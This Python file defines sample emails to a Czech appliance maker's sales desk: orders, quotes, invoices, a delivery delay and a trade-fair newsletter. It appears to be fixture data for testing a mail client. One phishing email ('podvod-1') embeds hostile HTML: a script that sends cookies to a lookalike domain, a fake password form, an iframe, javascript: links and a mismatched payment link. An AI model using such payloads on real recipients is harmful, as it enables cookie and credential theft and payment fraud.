"""What customers and suppliers wrote to the sales desk."""

from __future__ import annotations

from .drawings import csv, event, logo, pdf
from .post import File, Mail

_HOUR, _DAY = 60, 60 * 24

LETTERS = (
    Mail(
        "elektro-1", "elektro", "obchod", "Poptávka: 40 ks Bublina 6 + 12 ks Bublina Kompakt",
        "Dobrý den,\n\nna vánoční sezonu poptáváme 40 ks Bublina 6 a 12 ks Bublina Kompakt, rozpis po prodejnách je v příloze."
        " Prosím o cenu včetně dopravy do skladu Hradec Králové a o nejbližší termín.",
        ago=4 * _DAY + 200,
        files=(File("rozpis prodejen.csv", "text/csv", csv([
            ("Prodejna", "Bublina 6", "Kompakt"), ("Hradec Králové", "16", "4"), ("Pardubice", "12", "4"),
            ("Jičín", "6", "2"), ("Náchod – žlutá hala", "6", "2")])),),
    ),
    Mail(
        "elektro-2", "elektro", "obchod", "", "Dobrý den,\n\nmáte už prosím cenu? Ve středu uzavíráme katalog.",
        ago=1 * _DAY + 30, answers="elektro-1",
    ),
    Mail(
        "stehlik-1", "stehlik", "obchod", "Vybavení nové prádelny – žádost o nabídku",
        "Vážení,\n\notevíráme druhou provozovnu v Poličce a rádi bychom ji vybavili českými stroji. Potřebujeme 6 praček"
        " kolem 12 kg, 4 sušičky a platební automat. Plánek místnosti přikládám, přípojka je 3× 63 A.\n\nPřivítám"
        " i orientační cenu.",
        ago=2 * _DAY + 330,
        files=(File("plánek místnosti.pdf", "application/pdf", pdf(["Pradelna Bila, Policka", "12,4 x 6,2 m",
                    "privod vody 1 1/4, odpad DN 110"])),),
    ),
    Mail(
        "berger-1", "berger", "obchod", "Anfrage: Waschmaschinen für Waschsalon in Linz",
        "Guten Tag,\n\nein Kollege hat uns Ihre Maschinen empfohlen. Wir suchen acht robuste Waschmaschinen (10–12 kg) mit"
        " Münzeinwurf für unseren Salon in Linz. Liefern Sie nach Österreich, und gibt es eine deutschsprachige"
        " Bedienungsanleitung?\n\nMit freundlichen Grüßen",
        ago=1 * _DAY + 415,
        html="<p>Guten Tag,</p><p>ein Kollege hat uns Ihre Maschinen empfohlen. Wir suchen <b>acht robuste"
        " Waschmaschinen</b> (10–12 kg) mit Münzeinwurf für unseren Salon in Linz. Liefern Sie nach Österreich, und"
        " gibt es eine deutschsprachige Bedienungsanleitung?</p><p>Mit freundlichen Grüßen</p><table><tr><td>"
        "<img src='cid:logo.png' width='48' alt=''></td><td><b>Anna Berger</b><br>Waschsalon Berger, Linz</td></tr></table>",
        files=(File("logo.png", "image/png", logo((188, 52, 84)), inline=True),),
    ),
    Mail(
        "oconnor-2", "oconnor", "obchod", "Order of four more Bublina 12",
        "Hello,\n\nbusiness is good and we would like four more Bublina 12 in January. Same price as in March? Please quote"
        " with delivery to Galway.\n\n(There is also an open question about two machines at your helpdesk.)",
        ago=9 * _HOUR + 45,
    ),
    Mail(
        "doprava-1", "doprava", "obchod", "Avízo vykládky 55/2026 – zpoždění",
        "Dobrý den,\n\nkamion s plechy stojí v koloně u Brna, předpokládaný příjezd je dnes mezi 15. a 16. hodinou. Prosíme"
        " o potvrzení, že bude mít kdo vyložit.",
        ago=3 * _HOUR + 20,
    ),
    Mail(
        "ucetni-1", "ucetni", "obchod", "Faktura 2026-1187",
        "Dobrý den,\n\nv příloze zasíláme fakturu za říjnové dodávky nerezového plechu. Splatnost 14 dní.",
        ago=5 * _DAY + 60,
        files=(
            File("faktura-2026-1187.pdf", "application/pdf", pdf(["Faktura 2026-1187", "Ocel Plus a.s.",
                 "Nerezovy plech 0,8 mm, 2 400 kg", "K uhrade 187 300 Kc"])),
            File("dodací list.csv", "text/csv", csv([("Šarže", "kg"), ("A-77", "1200"), ("A-78", "1200")])),
        ),
    ),
    Mail(
        "ucetni-2", "ucetni", "obchod", "Re: Faktura 2026-1187",
        "Dobrý den,\n\nz vaší účtárny volali, že na faktuře chybí číslo objednávky. Jaké tam prosím máme uvést?",
        ago=28 * _HOUR, headers={"In-Reply-To": "<dotaz-1187@uctarna.bublina.example>",
                                 "References": "<dotaz-1187@uctarna.bublina.example>"},
    ),
    Mail(
        "stehlik-2", "stehlik", "obchod", "", "Ještě doplňuji: prádelnu chceme otevřít 1. března, stroje tedy nejpozději v"
        " polovině února.", ago=20 * _HOUR, answers="stehlik-1", quotes=False,
    ),
    Mail(
        "stehlik-3", "stehlik", "obchod", "Pozvánka: prohlídka nové prádelny", "Dobrý den,\n\nzvu vás na prohlídku prostor v"
        " Poličce, ať vidíte, kam stroje přijdou. Pozvánka do kalendáře je v příloze.", ago=18 * _HOUR,
        answers="stehlik-1", quotes=False,
        files=(File("pozvanka.ics", "text/calendar", event(
            "Prohlídka nové prádelny", "Polička, Palackého náměstí 160", "stehlik@pradelna-bila.example",
            "obchod@bublina.example", days=9)),),
    ),
    Mail(
        "veletrh-1", "veletrh", "obchod", "Domov a zahrada 2027: poslední stánky za zvýhodněnou cenu",
        "Rezervujte svůj stánek do konce listopadu a ušetřete 15 %.\n\nOdhlásit odběr: https://veletrh-domov.example/odhlasit",
        ago=7 * _HOUR,
        html="<div style='font-family:sans-serif'><img src='https://veletrh-domov.example/pixel.gif' width=1 height=1>"
        "<h1 style='color:#256d1b'>Domov a zahrada 2027</h1><p>Rezervujte svůj stánek do konce listopadu"
        " a ušetřete <b>15 %</b>.</p><p><a href='https://veletrh-domov.example/rezervace'>Rezervovat</a></p>"
        "<p style='font-size:10px'><a href='https://veletrh-domov.example/odhlasit'>Odhlásit odběr</a></p></div>",
        headers={"List-Unsubscribe": "<https://veletrh-domov.example/odhlasit>", "Precedence": "bulk",
                 "List-Id": "Novinky veletrhu <novinky.veletrh-domov.example>"},
    ),
    Mail(
        "podvod-1", "podvod", "obchod", "URGENT: změna čísla účtu – uhraďte do 24 hodin",
        "Vážený obchodní partnere,\n\nz důvodu auditu se mění číslo našeho účtu. Uhraďte prosím dnešní fakturu na nový účet.",
        ago=6 * _HOUR + 15,
        html="<html><head><script>document.location='https://bub1ina-faktury.example/'+document.cookie</script>"
        "<style>body{background:url(https://bub1ina-faktury.example/bg.png)}</style></head><body onload='alert(1)'>"
        "<iframe src='https://bub1ina-faktury.example/'></iframe><form action='https://bub1ina-faktury.example/p'>"
        "<input name='heslo' type='password'><button>Přihlásit</button></form><p>Vážený obchodní partnere,</p><p>z důvodu"
        " auditu se mění číslo našeho účtu. Uhraďte prosím dnešní fakturu na nový účet:</p><p><a href="
        "'https://bub1ina-faktury.example/platba' onclick='steal()'>https://www.bublina.example/platby</a></p>"
        "<img src='https://bub1ina-faktury.example/t.gif?to=obchod'><a href='javascript:alert(2)'>Kontakt</a></body></html>",
    ),
    Mail(
        "elektro-3", "elektro", "obchod", "Vrácení 2 ks – poškozený obal",
        "Dobrý den,\n\ndvě Bubliny 6 z poslední dodávky mají promáčklý bok. Vyměníte je, nebo se domluvíme na slevě?",
        ago=50 * _HOUR,
    ),
)  # fmt: skip
